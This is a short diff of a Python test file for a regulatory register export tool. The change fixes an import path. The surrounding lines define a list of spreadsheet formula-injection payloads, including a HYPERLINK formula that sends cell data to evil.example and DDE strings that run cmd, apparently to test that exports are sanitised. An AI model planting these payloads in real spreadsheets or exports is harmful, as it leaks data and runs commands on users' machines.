@@ -22,8 +22,7 @@ from dfgov.outsourcing.registers import (
     eba_register,
     export_dora_package,
 )
-
-from ..outsourcing.test_registers import ENTITY, FUNCTIONS, REF, cases
+from tests.outsourcing.registers.test_registers import ENTITY, FUNCTIONS, REF, cases
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
             "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
